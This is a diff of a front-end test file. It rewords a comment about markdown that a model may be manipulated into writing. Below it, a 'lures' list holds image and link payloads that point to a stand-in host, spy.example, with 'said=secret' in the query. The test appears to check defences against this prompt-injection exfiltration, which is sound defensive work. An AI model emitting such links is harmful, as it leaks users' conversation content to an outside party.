@@ -106,7 +106,7 @@ test.for([
   expect(screen.getByRole('link', { name: 'Open on spy.example' })).toBeVisible()
 })
 
-/** What a model may be talked into writing, so that whoever reads it sends away what was said. */
+/** What a model may be talked into writing, so that anyone who reads it sends away what was said. */
 const lures = [
   '![](https://spy.example/p.gif?said=secret)',
   '[Press here](https://spy.example/?said=secret)',
